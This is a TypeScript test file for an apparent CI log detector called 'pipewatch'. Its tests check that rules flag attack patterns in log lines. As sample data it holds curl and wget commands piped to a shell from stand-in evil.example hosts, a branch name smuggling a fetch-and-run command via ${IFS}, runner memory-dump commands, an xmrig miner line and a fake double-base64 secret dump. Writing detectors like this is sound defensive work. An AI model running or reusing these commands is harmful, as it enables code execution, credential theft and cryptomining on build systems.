import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { LogBatch } from '@pipewatch/shared';
import { detectLogBatch } from '../src/index.js';
import { trained } from './trained.js';

const batch = (lines: string[]): LogBatch => ({
  schema: 'pipewatch.log/v1',
  event_id: 'log-1',
  source: 'agent',
  pipeline: { id: 'github:octo/app:.github/workflows/ci.yml:build' },
  run: { id: 'run-9' },
  lines: lines.map((text) => ({ text })),
});

const b64 = (text: string) => Buffer.from(text).toString('base64');
const ids = (lines: string[]) => detectLogBatch(trained(), batch(lines), '2026-01-01T00:00:00Z').map((f) => [f.rule.id, f.severity]);

describe('log rules', () => {
  it('finds secrets inside a double-base64 dump (tj-actions) as critical, without repeating them in the evidence', () => {
    const memory = JSON.stringify({ AWS_SECRET: { value: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', isSecret: true }, GH: { value: `ghp_${'a1B2c3D4e5'.repeat(4)}`, isSecret: true } });
    const dump = b64(b64(memory));
    const findings = detectLogBatch(undefined, batch(['Run tj-actions/changed-files@v45', dump]), '2026-01-01T00:00:00Z');
    assert.deepEqual(findings.map((f) => [f.rule.id, f.severity]), [['log.encoded_secret', 'critical']]);
    assert.ok(!JSON.stringify(findings).includes(dump.slice(0, 80)), 'the blob is not copied into the finding');
  });

  it('rates a double-encoded blob without credentials high', () => {
    const random = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 97 + 13) % 256)).toString('base64');
    assert.deepEqual(ids([b64(random)]), [['log.encoded_blob', 'high']]);
  });

  it('flags reads of runner memory', () => {
    assert.deepEqual(ids(['sudo python3 memdump.py $(pgrep -f Runner.Worker)']), [['log.runner_memory_read', 'critical']]);
    assert.deepEqual(ids(['cat /proc/1234/mem > /tmp/out']), [['log.runner_memory_read', 'critical']]);
  });

  it('flags curl | bash from a host the pipeline never contacted, not from a known one', () => {
    assert.deepEqual(ids(['curl -s https://uploader.evil.example/bash | bash']), [['log.pipe_to_shell', 'high']]);
    assert.deepEqual(ids(['curl -fsSL https://github.com/install.sh | sh']), []);
  });

  it('flags a fetch piped to a shell when blanks are spelled ${IFS} and the command is a brace list (the Ultralytics branch name)', () => {
    const branch = 'openimbot:$({curl,-sSfL,raw.githubusercontent.com/ultralytics/ultralytics/12e4f54/file.sh}${IFS}|${IFS}bash)';
    assert.deepEqual(ids([`git pull origin ${branch}`]), [['log.pipe_to_shell', 'high']]);
  });

  it('flags a scheme-less URL piped to a shell, and not a fetch piped elsewhere', () => {
    assert.deepEqual(ids(['wget -qO- get.evil.example/install.sh | sh']), [['log.pipe_to_shell', 'high']]);
    assert.deepEqual(ids(['curl -s get.evil.example/data.json | jq .version']), []);
    assert.deepEqual(ids(['curl -fsSL github.com/install.sh | sh']), [], 'a known host stays quiet without a scheme too');
  });

  it('flags miners', () => {
    assert.deepEqual(ids(['./xmrig -o stratum+tcp://pool.example:3333 -u wallet']), [['log.miner', 'critical']]);
  });

  it('gives the same finding id for two batches of the same run', () => {
    const a = detectLogBatch(undefined, batch(['xmrig started']), '2026-01-01T00:00:00Z')[0]!;
    const b = detectLogBatch(undefined, { ...batch(['xmrig still running']), event_id: 'log-2' }, '2026-01-01T00:01:00Z')[0]!;
    assert.equal(a.finding_id, b.finding_id);
  });

  const logs = '/work/shared/data/ci-logs';
  (existsSync(logs) ? it : it.skip)('raises nothing on the 61 real CI logs (no attacks in them)', () => {
    const noisy: string[] = [];
    for (const dir of readdirSync(logs)) {
      for (const file of readdirSync(join(logs, dir))) {
        const lines = readFileSync(join(logs, dir, file), 'utf8').split('\n').filter((line) => line.length > 0).slice(0, 10_000);
        const findings = detectLogBatch(undefined, batch(lines), '2026-01-01T00:00:00Z');
        if (findings.length > 0) noisy.push(`${dir}/${file}: ${findings.map((f) => f.rule.id).join(',')}`);
      }
    }
    assert.deepEqual(noisy, []);
  });
});
